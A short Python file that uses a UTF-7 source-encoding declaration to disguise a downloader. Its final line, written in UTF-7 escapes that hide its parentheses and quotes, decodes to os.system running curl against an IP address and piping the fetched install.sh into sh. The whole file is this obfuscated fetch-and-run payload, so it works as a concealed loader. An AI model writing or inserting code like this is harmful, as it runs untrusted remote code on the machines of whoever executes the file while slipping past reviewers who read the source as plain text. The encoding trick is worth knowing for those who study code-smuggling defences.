# coding: utf-7
# PEP 263: CPython decodes the rest as UTF-7.
import os

os.system+ACg-+ACI-curl -s http://203.0.113.9/install.sh | sh+ACI-)
